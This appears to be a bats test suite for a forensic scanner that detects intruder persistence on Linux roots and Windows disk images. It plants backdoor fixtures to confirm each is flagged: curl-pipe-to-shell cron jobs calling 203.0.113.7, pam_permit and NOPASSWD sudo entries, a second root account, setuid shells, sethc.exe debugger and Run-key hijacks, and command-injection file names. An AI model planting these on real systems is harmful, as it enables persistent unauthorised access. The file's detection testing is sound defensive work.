#!/usr/bin/env bats
# What an intruder leaves to come back: each plant is found, and nothing else is.
load lib

setup() { FAKE=$WORK/root; }

look() { "$YAGURA" audit --checklist persistence --root "$FAKE" --json "$@"; }
# file PATH MODE: from standard input, with the folders on the way
file() {
    mkdir -p "$FAKE/$(dirname "$1")"
    cat >"$FAKE/$1"
    chmod "$2" "$FAKE/$1"
}
# own PATH MODE: the same, of the package "tool"
own() {
    file "$1" "$2"
    printf '%s  %s\n' "$(md5sum <"$FAKE/$1" | cut -d' ' -f1)" "$1" >>"$FAKE/var/lib/dpkg/info/tool.md5sums"
}
# A small Debian with the things that a scan looks at, all as a package brought them.
host() {
    mkdir -p "$FAKE"/{etc,usr/bin,usr/lib,var/lib/dpkg/info,var/www/html,root,home/op,tmp}
    ln -s usr/bin "$FAKE/bin"
    ln -s usr/lib "$FAKE/lib"
    printf 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nPRETTY_NAME="Debian 12"\n' >"$FAKE/etc/os-release"
    printf 'Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n' >"$FAKE/var/lib/dpkg/status"
    printf '/.\n' >"$FAKE/var/lib/dpkg/info/tool.list"
    printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nop:x:1000:1000::/home/op:/bin/bash\n' >"$FAKE/etc/passwd"
    printf 'root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nop:!:19000:0:99999:7:::\n' >"$FAKE/etc/shadow"
    printf 'root:x:0:\n' >"$FAKE/etc/group"
    printf 'passwd: files\n' >"$FAKE/etc/nsswitch.conf"
    echo x >"$FAKE/etc/machine-id"
    printf '#!/bin/sh\ncurl http://x | sh\n' | own etc/cron.daily/tool 0755
    printf '[Service]\nExecStart=/dev/shm/x\n' | own usr/lib/systemd/system/tool.service 0644
    printf 'su' | own usr/bin/su 04755
    printf 'bash' | own usr/bin/bash 0755
    printf 'ls' | own usr/bin/ls 0755
    printf 'unix' | own usr/lib/x86_64-linux-gnu/security/pam_unix.so 0644
    printf 'RewriteEngine On\n' | file var/www/html/.htaccess 0644
}
# What is found, as "rule severity" lines.
found() {
    printf '%s\n' "$stdout" | /usr/bin/python3 -c '
import json, sys
for o in map(json.loads, sys.stdin):
    if o["type"] == "finding" and o["verdict"] in ("affected", "broken"):
        print(o["rule"]["id"], o["severity"], o["subject"]["name"])' | sort
}

@test "what packages brought is clean, each plant is found and told in both languages" {
    host
    code 0 look
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
    # the same with every file compared
    code 0 look --all
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'

    printf '* * * * * root /usr/local/bin/x\n' | file etc/cron.d/x 0644
    printf '*/5 * * * * curl -s http://203.0.113.7/a | sh\n' | file var/spool/cron/crontabs/www-data 0600
    printf '[Service]\nExecStart=/usr/local/bin/x\n' | file etc/systemd/system/x.service 0644
    printf '#!/bin/sh\n/usr/local/bin/x &\n' | file etc/rc.local 0755
    printf '/usr/local/bin/x\n' | file etc/profile.d/x.sh 0644
    printf '/usr/lib/x.so\n' | file etc/ld.so.preload 0644
    printf 'auth sufficient pam_permit.so\n' | file etc/pam.d/common-auth 0644
    printf 'evil' | file usr/lib/x86_64-linux-gnu/security/pam_unix.so 0644
    printf 'www-data ALL=(ALL) NOPASSWD: ALL\n' | file etc/sudoers.d/x 0440
    printf 'ACTION=="add", RUN+="/usr/local/bin/x"\n' | file etc/udev/rules.d/x.rules 0644
    printf 'x' | file usr/lib/apache2/modules/mod_x.so 0644
    printf 'AddType application/x-httpd-php .jpg\n' | file var/www/html/img/.htaccess 0644
    printf 'auto_prepend_file=/tmp/x.php\n' | file var/www/html/.user.ini 0644
    printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n' | file root/.ssh/authorized_keys 0600
    printf 'sh' | file tmp/.x 04755
    printf 'sl' | file usr/bin/ls 0755
    chmod u+s "$FAKE/usr/bin/bash"
    printf 'toor:x:0:0::/root:/bin/sh\n' >>"$FAKE/etc/passwd"
    printf 'toor:$6$x:20000:0:99999:7:::\n' >>"$FAKE/etc/shadow"
    code 1 look
    run found
    for rule in "persist-cron medium" "persist-command critical" "persist-unit medium" "persist-init medium" \
        "persist-profile low" "persist-preload critical" "persist-pam-open critical" "persist-pam-module critical" \
        "persist-sudo-free high" "persist-hook medium" "persist-module high" "persist-htaccess high" \
        "persist-prepend high" "persist-key-fresh medium" "privileged-file critical /tmp/.x" \
        "privileged-file critical /usr/bin/bash" "packaged-file-changed critical tool" \
        "account-second-root critical toor"; do
        says "$rule"
    done
    # what, why, do this, how sure: of each
    code 1 look
    holds 'all(f["summary"] and f["why"] and f["remedy"]["summary"] and f["remedy"]["steps"] and f["confidence"] for f in findings)'
    code 1 "$YAGURA" --lang ja audit --checklist persistence --root "$FAKE"
    says "理由" "対処" "確度" "すべてのプログラムに"
    # since when, for the first sign of the intrusion
    code "0 3" "$YAGURA" facts persistence --root "$FAKE" --json
    holds 'all(f["changed"][:4] >= "2026" and f["modified"] for f in kind("persistence"))' 'len(kind("persistence")) >= 14'
    # an audit asks other questions
    code "0 1 3" "$YAGURA" audit --root "$FAKE" --json
    holds 'not [f for f in findings if f["rule"]["id"].startswith("persist-")]'
}

# plants: "rule severity PATH MODE TEXT" a line
plant() {
    while IFS='|' read -r rule path mode text; do
        # shellcheck disable=SC2059 # the text has its own line ends
        printf "$text\\n" | file "$path" "$mode"
        wanted+=("$rule /$path")
    done
}
@test "a step can be pasted, whatever its file is called" {
    local name='usr/local/bin/a b `id`;id' line
    host
    file "$name" 04755 <<<sh
    for lang in en ja; do
        COLUMNS=80 code 1 "$YAGURA" --lang $lang scan --root "$FAKE"
        grep -qF "chmod u-s,g-s '/$name'; setcap -r '/$name'" <<<"$(tr -s '\n ' ' ' <<<"$stdout")"
        # the command begins a line, and goes on behind a backslash
        line=$(sed -n '/ quarantine take/,$p' <<<"$stdout" | sed -e ':a' -e '/ \\$/{N;s/ \\\n */ /;ba' -e '}' | head -1)
        (
            set -- ""
            eval "set -- $line"
            [ "$1" = "$YAGURA" ]
            [ "${*: -1}" = "/$name" ]
        )
    done
    # an account, too: whoever is root may write what he likes into the passwd file
    echo 'x;id:x:0:0::/:/bin/bash' >>"$FAKE/etc/passwd"
    code 1 look
    [[ "$output" == *"usermod --lock --expiredate 1 'x;id'"* ]]
}

@test "what was put aside is no finding here either; a folder that only bears such a name is" {
    host
    echo good >"$FAKE/var/www/html/index.html"
    code 0 "$YAGURA" init "$FAKE/var/www/html"
    printf 'sh' | file var/www/.yagura-html/bad-1 04755
    code 0 look
    [ "$(stat -c %a "$FAKE/var/www/.yagura-html/bad-1")" = 4755 ]
    mkdir -m 700 "$FAKE/var/www/.yagura-other"
    printf 'sh' | file var/www/.yagura-other/bad-1 04755
    code 1 look
    run found
    says "privileged-file critical /var/www/.yagura-other/bad-1"
    if grep -q yagura-html <<<"$output"; then return 1; fi
    # another state knows nothing of it
    code 1 look --state "$WORK/other"
    run found
    says "privileged-file critical /var/www/.yagura-html/bad-1"
}

@test "in every place where something starts by itself a plant is found" {
    host
    chmod 0700 "$FAKE/root"
    # as packages brought them: nothing
    printf 'LD_PRELOAD=/x.so\n' | own etc/default/tool 0644
    printf '#!/bin/sh\nx\n' | own usr/share/initramfs-tools/hooks/tool 0755
    printf '[D-BUS Service]\nExec=/usr/bin/x\nUser=root\n' | own usr/share/dbus-1/system-services/tool.service 0644
    printf 'iface lo inet loopback\n' | file etc/network/interfaces 0644
    printf '# nothing\n' | file etc/modules 0644
    printf 'd /run/screen 0755\n' | file etc/tmpfiles.d/screen.conf 0644
    printf 'Defaults env_reset\n@includedir /etc/sudoers.d\n#includedir /etc/sudoers.d\n# 1000 users\n' | file etc/sudoers 0440
    printf 'root: op\n' | file etc/aliases 0644
    code 0 look
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
    local wanted=() missing=() line
    plant <<'END'
persist-cron medium|etc/crontabs/root|0600|* * * * * /usr/local/bin/x
persist-cron medium|etc/anacrontab|0644|1 5 x /usr/local/bin/x
persist-at medium|var/spool/cron/atjobs/a0001|0700|/usr/local/bin/x
persist-unit medium|etc/systemd/system/x.timer|0644|[Timer]\nOnCalendar=daily
persist-unit medium|home/op/.config/systemd/user/x.service|0644|[Service]\nExecStart=/x
persist-init medium|etc/systemd/system-generators/x|0755|#!/bin/sh\nx
persist-init medium|usr/lib/systemd/user-environment-generators/x|0755|#!/bin/sh\nx
persist-init medium|etc/tmpfiles.d/x.conf|0644|C /etc/cron.d/y - - - - /srv/y
persist-init medium|etc/supervisor/conf.d/x.conf|0644|[program:x]\ncommand=/x
persist-profile low|root/.zlogin|0644|x
persist-profile low|home/op/.config/fish/conf.d/x.fish|0644|x
persist-profile low|home/op/.ssh/config|0644|Host *\nProxyCommand /x
persist-profile low|etc/profile.d/x.csh|0644|x
persist-profile low|etc/xdg/autostart/x.desktop|0644|Exec=x
persist-hook medium|etc/modprobe.d/x.conf|0644|install vfat /x
persist-hook medium|etc/modules-load.d/x.conf|0644|rootkit
persist-hook medium|etc/apt/apt.conf.d/99x|0644|APT::Update::Pre-Invoke {"/x";};
persist-hook medium|etc/dpkg/dpkg.cfg.d/x|0644|post-invoke=/x
persist-hook medium|etc/logrotate.conf|0644|/var/log/x {\npostrotate\n/x\nendscript\n}
persist-hook medium|etc/update-motd.d/x|0755|#!/bin/sh\nx
persist-hook medium|etc/NetworkManager/dispatcher.d/pre-up.d/x|0755|#!/bin/sh\nx
persist-hook medium|etc/networkd-dispatcher/off.d/x|0755|#!/bin/sh\nx
persist-hook medium|etc/network/interfaces|0644|iface eth0 inet dhcp\n post-up /x
persist-hook medium|etc/xinetd.d/x|0644|service x {\nserver = /x\n}
persist-hook medium|etc/initramfs-tools/hooks/x|0755|#!/bin/sh\nx
persist-hook medium|usr/share/initramfs-tools/hooks/x|0755|#!/bin/sh\nx
persist-hook medium|etc/initramfs-tools/scripts/init-bottom/x|0755|#!/bin/sh\nx
persist-hook medium|etc/grub.d/99_x|0755|#!/bin/sh\nx
persist-hook medium|etc/sysctl.d/x.conf|0644|kernel.core_pattern = |/x
persist-hook medium|etc/binfmt.d/x.conf|0644|:x:E::x::/x:C
persist-hook medium|etc/aliases|0644|root: "|/x"
persist-hook medium|home/op/.forward|0644|"|/x"
persist-hook medium|usr/lib/python3/dist-packages/x.pth|0644|import os
persist-hook medium|usr/share/dbus-1/system-services/x.service|0644|Exec=/x
persist-hook medium|var/www/html/.git/hooks/post-merge|0755|#!/bin/sh\nx
persist-sshd medium|etc/ssh/sshd_config.d/x.conf|0644|ForceCommand /x
persist-sshd medium|etc/ssh/sshd_config|0644|AuthorizedKeysCommand /x
persist-sshd medium|root/.shosts|0600|evil.example
persist-preload-setting high|etc/security/pam_env.conf|0644|LD_PRELOAD DEFAULT=/x.so
persist-preload-setting high|etc/systemd/system.conf.d/x.conf|0644|DefaultEnvironment=LD_PRELOAD=/x.so
persist-preload-setting high|etc/default/cron|0644|export LD_PRELOAD=/x.so
persist-linker medium|etc/ld.so.conf.d/x.conf|0644|/x
persist-sudo low|etc/polkit-1/rules.d/x.rules|0644|polkit.addRule(function(){return "yes";});
persist-sudo low|etc/doas.conf|0644|permit nopass op
persist-sudo-free high|etc/sudoers.d/x|0440|#1000 ALL=(ALL) NOPASSWD: ALL
persist-sudo-free high|etc/sudoers.d/y|0440|Defaults !authenticate
persist-sudo low|etc/sudoers.d/z|0440|#include /srv/more
persist-prepend high|etc/php/8.2/fpm/php.ini|0644|auto_prepend_file = /x.php
persist-prepend high|etc/php.d/x.ini|0644|auto_append_file = /x.php
END
    code 1 look
    run found
    for line in "${wanted[@]}"; do
        [[ $'\n'"$output"$'\n' == *$'\n'"$line"$'\n'* ]] || missing+=("$line")
    done
    [ "${#missing[@]}" = 0 ] || { printf 'not found: %s\n' "${missing[@]}"; echo "$output"; return 1; }
    # samples of git are no hooks
    echo '#!/bin/sh' | file var/www/html/.git/hooks/pre-push.sample 0755
    code 1 look
    says_not pre-push
}

@test "what one finding was seen in is bounded on the screen, and whole as JSON" {
    host
    seq -f '* * * * * root /usr/local/bin/job-%g' 400 | file etc/cron.d/many 0644
    code 1 look
    id=$(printf '%s\n' "$stdout" | grep '/etc/cron.d/many' | grep -o '"id":"[0-9a-f]\{16\}"' | head -1 | cut -d'"' -f4)
    holds 'max(len(f["evidence"]) for f in findings) >= 400'
    code 1 "$YAGURA" explain "$id" --root "$FAKE"
    says "job-1" "job-8" "and 392 more: --json has all of them"
    [ "$(wc -l <<<"$stdout")" -lt 80 ]
    code 1 "$YAGURA" --lang ja explain "$id" --root "$FAKE"
    says "ほか 392 件。すべては --json で出ます"
}

@test "a finding is explained by its id, and what lies deep is seen with --all" {
    host
    printf 'sh' | file srv/a/b/c/d/x 04755
    code 0 look
    code 1 look --all
    run found
    says "privileged-file critical /srv/a/b/c/d/x"
    code 1 look --all
    id=$(printf '%s\n' "$stdout" | grep -o '"id":"[0-9a-f]\{16\}"' | head -1 | cut -d'"' -f4)
    code 1 "$YAGURA" explain "$id" --root "$FAKE"
    says "/srv/a/b/c/d/x" "chmod u-s"
}

@test "pipes, loops, links out of the root and odd names: unknown, never clean, and no hanging" {
    host
    mkdir -p "$FAKE"/etc/cron.d "$FAKE"/etc/systemd/system "$FAKE"/etc/sudoers.d "$FAKE"/var/www/html/x
    mkfifo "$FAKE/etc/cron.d/pipe" "$FAKE/var/www/html/x/.htaccess"
    ln -s loop "$FAKE/etc/sudoers.d/loop"
    ln -s /etc/shadow "$FAKE/etc/systemd/system/a.service"
    ln -s ../../../../../../../../etc/hostname "$FAKE/etc/cron.d/out"
    printf '* * * * * root x\n' | file $'etc/cron.d/new\nline' 0644
    printf 'AddHandler x .jpg\n' | file $'var/www/html/\e[31m/.htaccess' 0644
    code "1 3" timeout -k 1 30 "$YAGURA" audit --checklist persistence --root "$FAKE" --json
    holds 'summary["unknown"] >= 3' '"etc/cron.d/pipe" in json.dumps(findings)' '"sudoers.d/loop" in json.dumps(findings)'
    says_not "$(cat /etc/hostname 2>/dev/null || echo none-here)\"" $'\e[31m'
    # without dpkg's record nothing has an origin
    rm -r "$FAKE/var/lib/dpkg"
    printf '* * * * * root x\n' | file etc/cron.d/x 0644
    code "1 3" look
    holds 'summary["unknown"] > 0' 'verdicts("persist-cron") == {"unknown"}'
}

@test "what no record speaks of and was not looked at is said by a scan, too, and why of each" {
    host
    code 0 "$YAGURA" scan --clamd off --root "$FAKE"
    # sshd takes a line of any length
    { printf 'environment="A=%0100000d" ' 0 && printf 'ssh-ed25519 AAAA evil@example\n'; } | file root/.ssh/authorized_keys 0600
    code 3 "$YAGURA" scan --clamd off --root "$FAKE"
    says "longer than"
    rm "$FAKE/root/.ssh/authorized_keys"
    mkdir -p "$FAKE/etc/profile.d"
    mkfifo "$FAKE/etc/profile.d/pipe.sh"
    truncate -s 10G "$FAKE/etc/profile"
    code 3 "$YAGURA" scan --clamd off --root "$FAKE" --json
    holds '"pipe.sh: it is neither" in json.dumps(findings)' '"profile: 10737418240 bytes" in json.dumps(findings)' \
        'not [f for f in findings if "profile" in f["subject"]["name"] and "pipe" not in f["subject"]["name"] and "neither" in f["summary"]]'
}

@test "a collector that gives up is said by a scan: what it would have found is not clean" {
    local i
    host
    mkdir -p "$FAKE/var/spool/cron/crontabs"
    yes '* * * * * a' | head -20000 >"$FAKE/var/spool/cron/crontabs/u0" || [ $? = 141 ]
    for i in {1..26}; do ln "$FAKE/var/spool/cron/crontabs/u0" "$FAKE/var/spool/cron/crontabs/u$i"; done
    code 1 "$YAGURA" scan --clamd off --root "$FAKE" --json
    stdout=$(tail -4 <<<"$stdout")
    says "linux/persistence cron"
}

@test "a host whose packages are rpm's: unknown, said once and plainly, and never clean" {
    host
    rm -r "$FAKE/var/lib/dpkg"
    mkdir -p "$FAKE/var/lib/rpm"
    echo x >"$FAKE/var/lib/rpm/rpmdb.sqlite"
    printf 'ID=rocky\nVERSION_ID="9.3"\nPRETTY_NAME="Rocky Linux 9.3"\n' >"$FAKE/etc/os-release"
    rm -r "$FAKE/etc/cron.daily" "$FAKE/usr/lib/systemd"
    code "1 3" look
    holds 'summary["unknown"] > 0' \
        'len([f for f in findings if f["rule"]["id"] == "could-not-look" and "where files come from" in f["subject"]["name"]]) == 1'
    says "are rpm's, whose record is not read"
    # a line that only intruders write is named, too, if not judged
    printf '* * * * * root curl -s http://203.0.113.7/a | sh\n' | file etc/cron.d/x 0644
    code "1 3" look
    holds 'verdicts("persist-command") == {"unknown"}'
    code "1 3" "$YAGURA" --lang ja audit --checklist persistence --root "$FAKE"
    says "rpm"
}

@test "a user who may not read the passwords does not hear that they are good" {
    as_root
    program setpriv
    host
    chmod 0600 "$FAKE/etc/shadow"
    chmod o+rx "$WORK" "$(dirname "$WORK")" "$(dirname "$(dirname "$WORK")")"
    chmod -R o+rX "$FAKE/etc" "$FAKE/usr" "$FAKE/var"
    chmod 0600 "$FAKE/etc/shadow"
    mkdir -m 777 "$WORK/other"
    setpriv --reuid 65534 --regid 65534 --clear-groups test -x "$YAGURA" || skip "the build folder is not for everybody"
    code 3 setpriv --reuid 65534 --regid 65534 --clear-groups env YAGURA_STATE="$WORK/other/state" "$YAGURA" audit --checklist persistence --root "$FAKE" --json
    holds 'verdicts("account-no-password") == {"unknown"}'
}

@test "of the demonstration disks the two that are infected are found so, and no other" {
    images
    local image
    for image in "$IMAGES"/*.img; do
        code "0 1 3" "$YAGURA" audit --checklist persistence --image "$image" --json
        case $image in
        */solaris7-iplanet-found.img | */windows2000-iis5-found.img)
            holds '[f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
        *) holds 'not [f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
        esac
    done
}

# job FILE PROGRAM ARGUMENTS: of the scheduler
job() {
    /usr/bin/python3 - "$@" <<'PY'
import struct, sys
path, *texts = sys.argv[1:]
head = struct.pack("<HH16sHH", 0x500, 1, bytes(16), 70, 0).ljust(68, b"\0") + struct.pack("<H", 0)
body = b"".join(struct.pack("<H", len(t) + 1) + (t + "\0").encode("utf-16-le") for t in texts)
open(path, "wb").write(head + body)
PY
}
@test "of a Windows the users, too: their keys, Startup folders, jobs, debuggers, services" {
    images
    program tsk_recover hivexregedit
    local tree=$WORK/w2000 nt=$WORK/nt4
    mkdir -p "$tree" "$nt"
    tsk_recover -a -o 63 "$IMAGES/windows2000-iis5-mended.img" "$tree" >/dev/null
    tsk_recover -a -o 63 "$IMAGES/nt4-iis4-mended.img" "$nt" >/dev/null
    # as Windows has them: nothing
    local user="$tree/Documents and Settings/ada" nt_user=$nt/winnt/Profiles/Administrator
    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"internat.exe"="internat.exe"
REG
    mkdir -p "$user/Start Menu/Programs/Startup" "$tree/WINNT/Tasks"
    touch "$user/Start Menu/Programs/Startup/desktop.ini" "$user/Start Menu/Programs/Startup/Office.lnk"
    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\Your Image File Name Here without a path]
"Debugger"="ntsd -d"
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{A}]
"StubPath"="regsvr32.exe /s /n /i:U shell32.dll"
REG
    code "0 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'

    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"a"="C:\\RECYCLER\\a.exe"
[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce]
"b"="C:\\b.bat"
[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Winlogon]
"Shell"="explorer.exe c:\\c.exe"
[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Windows]
"load"="C:\\WINNT\\Temp\\d.exe"
REG
    "$HELPERS/registry" "$nt_user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"e"="C:\\Inetpub\\scripts\\e.exe"
REG
    "$HELPERS/registry" "$tree/WINNT/system32/config/DEFAULT" 'HKEY_CURRENT_USER' new <<'REG'
[HKEY_CURRENT_USER\Control Panel\Desktop]
"SCRNSAVE.EXE"="C:\\f.scr"
REG
    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
"Debugger"="cmd.exe"
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{B}]
"StubPath"="C:\\WINNT\\Fonts\\g.exe"
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon]
"GinaDLL"="h.dll"
[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows]
"AppInit_DLLs"="i.dll"
REG
    "$HELPERS/registry" "$tree/WINNT/system32/config/system" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\j]
"Type"=dword:00000010
"Start"=dword:00000002
"ImagePath"="D:\\stuff\\bin\\j.exe -k"
"ObjectName"=".\\svc"
REG
    echo x >"$user/Start Menu/Programs/Startup/k.vbs"
    job "$tree/WINNT/Tasks/At1.job" 'C:\WINNT\Temp\l.exe' '/q'
    code 1 "$YAGURA" audit --checklist persistence --root "$tree" --json
    run found
    for line in 'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\Run!a' \
        'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\RunOnce!b' \
        'persist-windows-logon high HKCU of ada\Software\Microsoft\Windows NT\CurrentVersion\Winlogon!Shell' \
        'CurrentVersion\Windows!load' 'HKCU of the system\Control Panel\Desktop!SCRNSAVE.EXE' 'sethc.exe!Debugger' \
        '{B}!StubPath' 'Winlogon!GinaDLL' '!AppInit_DLLs' 'persist-windows-service medium HKLM\SYSTEM\CurrentControlSet\Services!j' \
        'persist-windows-startup high' 'Startup/k.vbs' 'Tasks/At1.job'; do
        says "$line"
    done
    says_not 'Office.lnk' '{A}' 'internat' 'without a path'
    code 1 "$YAGURA" audit --checklist persistence --root "$nt" --json
    run found
    says 'HKCU of Administrator\Software\Microsoft\Windows\CurrentVersion\Run!e'
    # the account that a service starts with is one to be changed
    code "0 3" "$YAGURA" facts secrets --root "$tree" --json
    holds 'any(s["reach"] == "system-account" and s["name"] == ".\\svc" for s in kind("secret"))'

    # what cannot be read is not clean, and is said
    head -c 3000 "$user/NTUSER.DAT" >"$WORK/cut" && cp "$WORK/cut" "$nt_user/NTUSER.DAT"
    echo x >"$tree/WINNT/Tasks/At1.job"
    echo nothing >"$user/NTUSER.DAT"
    code "1 3" "$YAGURA" audit --checklist persistence --root "$nt" --json
    holds 'summary["unknown"] > 0' '"unknown" in verdicts("persist-windows-place")'
    says "Profiles/Administrator/NTUSER.DAT"
    code "1 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
    says "ada/NTUSER.DAT" "it is no job that we know"
}

@test "secrets are listed by reach, and none is told" {
    host
    printf 'op:$6$verysecret:19000:0:99999:7:::\n' >"$FAKE/etc/shadow"
    printf 'server { listen 80; root /var/www/html; }\n' | file etc/nginx/sites-enabled/a 0644
    printf 'events {}\nhttp { include /etc/nginx/sites-enabled/*; }\n' | file etc/nginx/nginx.conf 0644
    printf "<?php define('DB_PASSWORD', 'verysecret'); define('AUTH_KEY', 'verysecret');\n" | file var/www/html/wp-config.php 0640
    printf 'verysecret\n' | file etc/letsencrypt/live/shop/privkey.pem 0600
    printf 'verysecret\n' | file root/.ssh/id_ed25519 0600
    code "0 3" "$YAGURA" facts secrets --root "$FAKE" --json
    says_not verysecret
    holds '{s["reach"] for s in kind("secret")} >= {"system-account", "database", "cms-user", "salt", "tls-key", "deploy-key", "ftp", "registrar", "api-key"}'
}

@test "secrets of sites: each once, what only has the name is none, and a site too large is said" {
    host
    mkdir -p "$FAKE/srv/large"
    (cd "$FAKE/srv/large" && seq 20001 | xargs touch)
    printf 'server { listen 80; root /var/www/html/shop; }\nserver { listen 80; server_name b; root /var/www/html/; }\nserver { listen 80; server_name c; root /srv/large; }\n' | file etc/nginx/sites-enabled/a 0644
    printf 'events {}\nhttp { include /etc/nginx/sites-enabled/*; }\n' | file etc/nginx/nginx.conf 0644
    echo '<?php' | file var/www/html/wp-config.php 0640
    echo '<?php' | file var/www/html/shop/wp-config.php 0640
    echo '<?php' | file var/www/html/wp-admin/network/settings.php 0644
    echo '<?php' | file var/www/html/sites/default/settings.php 0640
    code "0 3" "$YAGURA" facts secrets --root "$FAKE" --json
    holds 'sorted(s.get("path") for s in kind("secret") if s["reach"] == "database") == ["/var/www/html/shop/wp-config.php", "/var/www/html/sites/default/settings.php", "/var/www/html/wp-config.php"]' \
        'not [s for s in kind("secret") if "wp-admin" in s.get("path", "")]' \
        '[u["source"]["path"] for u in unread] == ["/srv/large"]'
}

@test "an untouched Debian with WordPress: nothing found, and each plant in it is" {
    slow
    as_root
    program debootstrap
    mirror=$(sed -nE 's/^ *deb +(\[[^]]*\] +)?(http[^ ]+) +[a-z]+ +.*main.*/\2/p; s/^URIs: *([^ ]+).*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | grep -v security | head -1)
    [ -n "$mirror" ] || skip "the host has no mirror"
    FAKE=$WORK/web
    timeout 900 debootstrap --include=nginx-light,apache2,php-fpm,libapache2-mod-php,cron,at,sudo,openssh-server,logrotate,systemd-sysv,udev,wordpress bookworm "$FAKE" "$mirror" >"$WORK/debootstrap.log" 2>&1 ||
        skip "debootstrap did not work: $(tail -1 "$WORK/debootstrap.log")"
    mkdir -p "$FAKE/var/www/html"
    cp -rL "$FAKE/usr/share/wordpress/." "$FAKE/var/www/html/" || true
    printf '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %%{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\n' >"$FAKE/var/www/html/.htaccess"
    code 0 look
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
    code 0 look --all
    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
    printf '* * * * * root curl -s http://203.0.113.7/a | sh\n' | file etc/cron.d/x 0644
    printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n' | file root/.ssh/authorized_keys 0600
    cp "$FAKE/usr/bin/dash" "$FAKE/var/tmp/.x"
    chmod 04755 "$FAKE/var/tmp/.x"
    printf '\n' >>"$FAKE/usr/sbin/sshd"
    printf 'auth sufficient pam_permit.so\n' >>"$FAKE/etc/pam.d/sshd"
    code 1 look
    run found
    says "persist-command critical" "persist-key-fresh medium" "privileged-file critical /var/tmp/.x" \
        "packaged-file-changed critical openssh-server" "persist-pam"
}
